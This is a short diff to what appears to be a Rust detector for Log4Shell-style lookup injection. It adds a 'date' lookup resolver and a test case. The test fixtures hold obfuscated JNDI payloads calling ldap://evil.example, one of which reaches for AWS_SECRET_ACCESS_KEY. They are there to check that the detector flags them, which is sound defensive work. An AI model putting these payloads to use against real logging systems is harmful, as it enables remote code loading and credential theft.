@@ -21,6 +21,8 @@ fn resolve_one(body: &str) -> String {
         "lower" => arg.to_lowercase(),
         "upper" => arg.to_uppercase(),
         "jndi" => format!("\u{1}jndi:{arg}\u{2}"),
+        // A date pattern: its quoted parts are literal text.
+        "date" => arg.split('\'').skip(1).step_by(2).collect(),
         _ => String::new(),
     }
 }
@@ -87,6 +89,7 @@ mod tests {
             "${env:AWS_SECRET_ACCESS_KEY:-${jndi:ldap://evil.example/f}}",
             "${jndi:ldaps://evil.example/g}",
             "x ${${upper:J}NDI:LDAP://evil.example/h} y",
+            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/e}",
         ] {
             assert!(detect(s).is_some(), "{s}");
         }
